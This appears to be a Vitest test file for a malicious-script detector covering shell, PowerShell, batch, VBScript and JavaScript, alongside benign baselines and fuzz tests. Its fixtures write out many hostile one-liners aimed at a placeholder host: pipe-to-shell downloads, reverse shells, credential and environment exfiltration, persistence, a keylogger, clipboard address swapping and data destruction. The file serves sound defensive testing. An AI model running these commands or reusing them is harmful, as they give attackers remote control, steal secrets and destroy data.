import { describe, expect, test } from 'vitest';
import type { ScriptFactKind, ScriptFacts } from '../../../src/analysis/script/facts.ts';
import { guessLanguage, type ScriptLanguage } from '../../../src/analysis/script/language.ts';
import { languageOfScript, readCommandLine, readScript } from '../../../src/analysis/script/read-script.ts';

const HOST = 'files.example.invalid';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

function kindsOf({ facts }: ScriptFacts): ScriptFactKind[] {
  return [...new Set(facts.map(({ kind }) => kind))].sort();
}

/** Kinds that a reviewer would stop at. */
const ALARMS: readonly ScriptFactKind[] = [
  'pipe-to-shell',
  'encoded-command',
  'hidden-window',
  'persistence',
  'reverse-shell',
  'secret-read',
  'exfiltration',
  'dns-exfiltration',
  'obfuscation',
  'evasion',
  'destruction',
  'miner',
  'clipboard',
];

function expectAll(language: ScriptLanguage, text: string, kinds: readonly ScriptFactKind[]): void {
  const found = kindsOf(readScript(text, language));
  for (const kind of kinds) expect(found, text).toContain(kind);
}

describe('shell', () => {
  test.each<[string, ScriptFactKind[]]>([
    [`curl -fsSL https://${HOST}/i.sh | sudo bash`, ['download', 'pipe-to-shell']],
    [`bash -c "$(wget -qO- https://${HOST}/i)"`, ['download', 'pipe-to-shell']],
    [`bash <(curl -s https://${HOST}/i)`, ['download', 'pipe-to-shell']],
    [`source <(curl -s https://${HOST}/i)`, ['pipe-to-shell']],
    [`c''url https://${HOST}/x | b"a"sh`, ['pipe-to-shell', 'obfuscation']],
    [`cu\\rl$IFS-s\${IFS}https://${HOST}/x|s\\h`, ['pipe-to-shell']],
    [`X=cur; Y=l; $X$Y https://${HOST}/x | sh`, ['pipe-to-shell']],
    [
      `echo ${base64(`curl https://${HOST} | sh`)} | base64 -d | bash`,
      ['encoded-command', 'pipe-to-shell', 'download'],
    ],
    [`echo 'hs | dlrow/ofni//:sptth lruc' | rev | sh`, ['encoded-command', 'pipe-to-shell']],
    [`sh -i >& /dev/tcp/${HOST}/443 0>&1`, ['reverse-shell']],
    [`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${HOST} 443 >/tmp/f`, ['reverse-shell']],
    [`nc -e /bin/sh ${HOST} 4444`, ['reverse-shell']],
    [
      `python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`,
      ['reverse-shell', 'spawn'],
    ],
    [`curl -d "$(env)" https://${HOST}`, ['exfiltration', 'secret-read']],
    [`curl -F f=@$HOME/.aws/credentials https://${HOST}`, ['exfiltration', 'secret-read']],
    [`wget --post-file=/etc/passwd https://${HOST}`, ['exfiltration', 'secret-read']],
    [`curl "https://${HOST}/?h=$(hostname)"`, ['exfiltration', 'host-info']],
    [`dig $(whoami | base64).x.example.invalid`, ['dns-exfiltration', 'host-info']],
    ['nslookup `hostname`.x.example.invalid', ['dns-exfiltration']],
    [`(crontab -l; echo "* * * * * /tmp/.x") | crontab -`, ['persistence']],
    [`echo 'nohup ~/.x &' >> ~/.bashrc`, ['persistence']],
    [`cp x.service /etc/systemd/system/ && systemctl enable x`, ['persistence']],
    [
      `curl -o /tmp/.x https://${HOST}/x && chmod +x /tmp/.x && nohup /tmp/.x &`,
      ['download', 'write-executable', 'hidden-window', 'spawn'],
    ],
    [`./xmrig -o stratum+tcp://${HOST}:3333`, ['miner']],
    ['rm -rf --no-preserve-root /', ['destruction']],
    ['history -c; rm ~/.bash_history', ['evasion']],
    [`pip install totally-fine-x`, ['package-install']],
  ])('%s', (text, kinds) => {
    expectAll('shell', text, kinds);
  });

  test.each([
    '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\n./configure --prefix="$PREFIX" && make -j"$(nproc)" && make install\n',
    'for f in src/*.c; do\n  cc -c "$f" -o "${f%.c}.o"\ndone\n',
    'if [ -f build.sh ]; then\n  echo "building"\n  exit 1\nfi\n',
    'git rev-parse HEAD | cut -c1-8 > version.txt',
    'export PATH="$HOME/bin:$PATH"\nwhich python3 || echo "no python"\n',
  ])('an honest build script raises no alarm: %j', (text) => {
    const alarms = kindsOf(readScript(text, 'shell')).filter((kind) => ALARMS.includes(kind));

    expect(alarms).toEqual([]);
  });

  test('a here-document handed to an interpreter is code of its own', () => {
    const { embedded, facts } = readScript(
      'x=1\npython3 - <<EOF\nimport os\nos.system("id")\nEOF\necho done\n',
      'shell',
    );

    expect(embedded).toMatchObject([{ language: 'python', text: 'import os\nos.system("id")', line: 2 }]);
    expect(facts).toMatchObject([{ kind: 'spawn', line: 2 }]);
  });

  test('facts name line, text and host', () => {
    const { facts, hosts } = readScript(`#!/bin/sh\n\n  curl https://${HOST}/a | sh\n`, 'shell');

    expect(facts[0]).toMatchObject({ line: 3, snippet: `curl https://${HOST}/a | sh` });
    expect(hosts).toEqual([HOST]);
  });
});

describe('PowerShell', () => {
  test.each<[string, ScriptFactKind[]]>([
    [
      `IEX (New-Object Net.WebClient).DownloadString('https://${HOST}/a')`,
      ['download', 'dynamic-code', 'pipe-to-shell'],
    ],
    [`i\`e\`x (i\`w\`r https://${HOST}/a)`, ['download', 'pipe-to-shell']],
    [`& ('i'+'ex') (('Down'+'loadString'))`, ['dynamic-code']],
    [`$c = Invoke-WebRequest https://${HOST}/a\n$d = 1\niex $c.Content`, ['download', 'pipe-to-shell']],
    [`&("{1}{0}" -f 'ex','i') "x"`, ['dynamic-code']],
    [`$a = [char]105+[char]101+[char]120; & $a $b`, ['dynamic-code']],
    [
      `powershell -w hidden -enc ${utf16(`iwr https://${HOST}/a -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe`)}`,
      ['encoded-command', 'hidden-window', 'download', 'write-executable', 'spawn'],
    ],
    [
      `$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(`IEX (iwr https://${HOST}/stage2)`)}'));iex $s`,
      ['encoded-command', 'download'],
    ],
    [
      `$c = New-Object System.Net.Sockets.TCPClient('${HOST}',443);$s=$c.GetStream();while(($i=$s.Read($b,0,9)) -ne 0){$d=(iex $data 2>&1|Out-String)}`,
      ['reverse-shell', 'dynamic-code'],
    ],
    [
      'Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value $p',
      ['persistence'],
    ],
    ['Add-MpPreference -ExclusionPath C:\\', ['evasion']],
    [`Invoke-RestMethod -Uri https://${HOST} -Method Post -Body (Get-ChildItem Env:)`, ['exfiltration', 'secret-read']],
    ['Get-Clipboard', ['clipboard']],
  ])('%s', (text, kinds) => {
    expectAll('powershell', text, kinds);
  });

  test('an honest script raises no alarm', () => {
    const text =
      'param([string]$Name = \'x\')\n# build\nWrite-Host "building $Name"\nGet-ChildItem -Path src -Filter *.cs | ForEach-Object { & csc $_.FullName }\n';

    expect(kindsOf(readScript(text, 'powershell')).filter((kind) => ALARMS.includes(kind))).toEqual([]);
  });

  test('an encoded command is shown decoded', () => {
    const { facts } = readScript(
      `powershell.exe -NoP -EncodedCommand ${utf16('Write-Host "hello there"')}`,
      'powershell',
    );

    expect(facts.find(({ kind }) => kind === 'encoded-command')?.decoded).toBe('Write-Host "hello there"');
  });
});

describe('batch', () => {
  test.each<[string, ScriptFactKind[]]>([
    [
      `@echo off\npowershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString('https://${HOST}/a')"`,
      ['hidden-window', 'download', 'pipe-to-shell'],
    ],
    [
      `curl https://${HOST}/a.exe -o %TEMP%\\a.exe && start /b %TEMP%\\a.exe`,
      ['download', 'write-executable', 'hidden-window', 'spawn'],
    ],
    [`certutil -urlcache -f https://${HOST}/a a.exe & a.exe`, ['download']],
    [`p^o^w^e^r^s^h^e^l^l -e^n^c ${utf16('iex $x')}`, ['encoded-command', 'obfuscation', 'dynamic-code']],
    [`set a=pow\nset b=ershell\n%a%%b% -enc ${utf16('iex $payload')}`, ['encoded-command']],
    [
      'set x=abcdefghijklmnopqrstuvwxyz\n%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%%x:~18,1%%x:~7,1%%x:~4,1%%x:~11,1%%x:~11,1% -w hidden -c "iex $a%x:~0,1%%x:~1,1%"',
      ['obfuscation', 'hidden-window'],
    ],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\u.exe', ['persistence']],
    ['schtasks /create /tn u /tr c:\\u.exe /sc onlogon', ['persistence']],
    ['copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"', ['persistence']],
    ["for /f %%i in ('whoami') do nslookup %%i.x.example.invalid", ['host-info', 'dns-exfiltration']],
    ['if exist "C:\\x" (mshta https://x.example.invalid/a)', ['dynamic-code']],
    ['vssadmin delete shadows /all', ['destruction']],
  ])('%s', (text, kinds) => {
    expectAll('batch', text, kinds);
  });

  test('an honest script raises no alarm', () => {
    const text =
      '@echo off\nsetlocal\nset PYTHON=python\nif "%1"=="clean" goto clean\n%PYTHON% setup.py build\ngoto end\n:clean\nrmdir /s /q build\n:end\n';

    expect(kindsOf(readScript(text, 'batch')).filter((kind) => ALARMS.includes(kind))).toEqual([]);
  });
});

describe('VBScript', () => {
  test.each<[string, ScriptFactKind[]]>([
    [
      `Set s = CreateObject("WScript.Shell")\ns.Run "powershell -enc ${utf16('iex $x')}", 0, True`,
      ['spawn', 'hidden-window', 'encoded-command'],
    ],
    [
      `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://${HOST}/a", False\nb.SaveToFile "a.exe"`,
      ['download', 'write-executable'],
    ],
    ['Execute(Chr(77) & Chr(115) & "gBox")', ['dynamic-code']],
    [
      `x = ${Array.from('CreateObject', (c) => `Chr(${c.charCodeAt(0)})`).join(' & ')} & Chr(1) & Chr(2) & Chr(3) & Chr(4) & Chr(5) & Chr(6) & Chr(7) & Chr(8) & Chr(9)`,
      ['obfuscation'],
    ],
    ['s.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u", "c:\\u.exe"', ['persistence']],
  ])('%s', (text, kinds) => {
    expectAll('vbscript', text, kinds);
  });

  test('an honest script raises no alarm', () => {
    const text =
      '\' counts files\nDim fso, n\nSet fso = CreateObject("Scripting.FileSystemObject")\nn = fso.GetFolder(".").Files.Count\nWScript.Echo "files: " & n\n';

    expect(kindsOf(readScript(text, 'vbscript')).filter((kind) => ALARMS.includes(kind))).toEqual([]);
  });
});

describe('JavaScript', () => {
  test.each<[string, ScriptFactKind[]]>([
    [`require("child_process").exec("curl https://${HOST}/a | sh")`, ['spawn', 'download', 'pipe-to-shell']],
    [
      `eval(atob("${base64('require("child_process").execSync("id"); const a = 1; console.log(a);')}"))`,
      ['dynamic-code', 'encoded-command', 'spawn'],
    ],
    ['window["ev" + "al"](x)', ['dynamic-code']],
    ['eval(String.fromCharCode(97, 108, 101, 114, 116))', ['dynamic-code']],
    [
      `fetch("https://${HOST}", { method: "POST", body: JSON.stringify(process.env) })`,
      ['exfiltration', 'secret-read'],
    ],
    [
      'const net = require("net"), cp = require("child_process"); const s = cp.spawn("/bin/sh", []); c.pipe(s.stdin); s.stdout.pipe(c)',
      ['reverse-shell', 'spawn'],
    ],
    [Array.from({ length: 30 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n'), ['obfuscation']],
    [
      `navigator.clipboard.readText().then((t) => { if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) navigator.clipboard.writeText(mine) })`,
      ['clipboard'],
    ],
    ['[]+!![]'.repeat(60), ['obfuscation']],
    ['document.addEventListener("keydown", (e) => fetch("https://x.example.invalid/?k=" + e.key))', ['keystrokes']],
    ['new ActiveXObject("WScript.Shell").Run("cmd /c mshta https://x.example.invalid")', ['spawn', 'dynamic-code']],
  ])('%s', (text, kinds) => {
    expectAll('javascript', text, kinds);
  });

  test('an honest module raises no alarm', () => {
    const text =
      '/* eval( */ import { readFile } from "node:fs/promises";\nconst re = /eval\\(/g;\nexport async function load(path) {\n  const text = await readFile(path, "utf8"); // no eval("x")\n  return JSON.parse(text.replace(re, ""));\n}\n';

    expect(
      kindsOf(readScript(text, 'javascript')).filter((kind) => ALARMS.includes(kind) || kind === 'dynamic-code'),
    ).toEqual([]);
  });
});

describe('languages', () => {
  test.each([
    ['python', 'import os\nfor name in os.listdir("."):\n    print(name)\n'],
    ['shell', '#!/bin/sh\nset -e\ncurl https://x.example.invalid | sh\n'],
    ['powershell', '$x = New-Object Net.WebClient\n$x.DownloadString("a")\n'],
    ['batch', '@echo off\nset x=1\nstart %temp%\\a.exe\n'],
    ['vbscript', 'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n'],
    ['javascript', 'const a = require("fs");\nfunction f() { return a.x === 1; }\n'],
  ])('%s is told from its text', (language, text) => {
    expect(guessLanguage(text)?.language).toBe(language);
  });

  test('prose and data are no language', () => {
    expect(guessLanguage('The quick brown fox jumps over the lazy dog.')).toBeUndefined();
    expect(guessLanguage('{"a": [1, 2, 3]}')).toBeUndefined();
    expect(guessLanguage('')).toBeUndefined();
  });

  test('a file name decides before the text does', () => {
    expect(languageOfScript('bin/install.ps1', 'echo hi')).toBe('powershell');
    expect(languageOfScript('bin/tool', '#!/bin/bash\nset -e\n')).toBe('shell');
  });

  test('a command line is read as its system would', () => {
    expect(kindsOf(readCommandLine(`cmd /c start /b powershell -enc ${utf16('iex $x')}`))).toContain('encoded-command');
    expect(kindsOf(readCommandLine('curl -s https://x.example.invalid | bash'))).toContain('pipe-to-shell');
  });
});

describe('hostile scripts', () => {
  const many = 200_000;
  const languages: ScriptLanguage[] = ['shell', 'powershell', 'batch', 'vbscript', 'javascript'];
  const texts: Readonly<Record<string, string>> = {
    parentheses: '('.repeat(many),
    pairs: '('.repeat(many) + ')'.repeat(many),
    substitutions: '$('.repeat(many),
    backticks: '`'.repeat(many + 1),
    quotes: `"'`.repeat(many),
    'open string': `"${'a'.repeat(many * 4)}`,
    backslashes: '\\'.repeat(many),
    joins: `x = ${"'a'+".repeat(many)}'b'`,
    ampersands: `x = ${'"a" & '.repeat(many)}"b"`,
    doubling: `a='aaaaaaaaaaaaaaaa'\n${'a=$a$a\n'.repeat(200)}`,
    'a long constant, often': `X=${'a'.repeat(90_000)}\n${'curl "$X" $(echo $X)\n'.repeat(many / 20)}`,
    'doubling PowerShell': `$a='aaaaaaaaaaaaaaaa'\n${'$a=$a+$a\n'.repeat(200)}`,
    'one line': 'curl http://x.example.invalid '.repeat(many / 8),
    lines: 'set a=%a%%a%b\n'.repeat(many / 4),
    'here-documents': 'cat <<A\n'.repeat(many / 8),
    pipes: 'a|'.repeat(many),
    slashes: '/'.repeat(many),
    templates: '`${'.repeat(many),
    controls: '\f\v\0\u00a0\u2028'.repeat(many / 5),
    blanks: ' '.repeat(many * 4),
    base64: 'QUFB'.repeat(many),
    dollars: '$'.repeat(many),
    percents: '%'.repeat(many),
    carets: '^'.repeat(many),
  };
  test.each(Object.keys(texts).flatMap((what) => languages.map((language) => [what, language] as const)))(
    '%s as %s end soon',
    (what, language) => {
      const started = performance.now();
      readScript(texts[what] ?? '', language);
      guessLanguage(texts[what] ?? '');

      expect(performance.now() - started).toBeLessThan(4000);
    },
  );

  test('layers of encoding end somewhere, and the sheet says so', () => {
    let text = 'Write-Host "innermost text of them all"';
    for (let i = 0; i < 12; i++) text = `powershell -enc ${utf16(text)}`;
    const { isTruncated, facts } = readScript(text, 'powershell');

    expect(isTruncated).toBe(true);
    expect(facts.some(({ kind }) => kind === 'encoded-command')).toBe(true);
  });

  test('mutations of scripts never throw', () => {
    let seed = 11;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1664525) + 1013904223) | 0;
      return Math.floor(((seed >>> 0) / 2 ** 32) * below);
    };
    const base = `X=1; curl -d "$(env)" 'http://x.example.invalid' | bash -c "eval \\$X" # c\n$a = [char]65 + "b" -f 'c'; iex $a\nset x=%x:~1,2%^\nDim s : s = Chr(1) & "a" _\n& "b"\nvar a = "\\x41" + 'b'; eval(atob("QUFBQUFBQUE="));\n`;
    const parts = ['"', "'", '`', '(', ')', '$(', '{', '}', '\\', '\n', '|', '&', '%', '^', '<<', '/*', '@"', '\0'];
    for (let round = 0; round < 1500; round++) {
      let text = base;
      for (let change = 0; change < 4; change++) {
        const at = random(text.length);
        text = text.slice(0, at) + (parts[random(parts.length)] ?? '') + text.slice(at + random(4));
      }
      const language = languages[round % languages.length];
      if (language !== undefined) readScript(text, language);
    }
  });
});
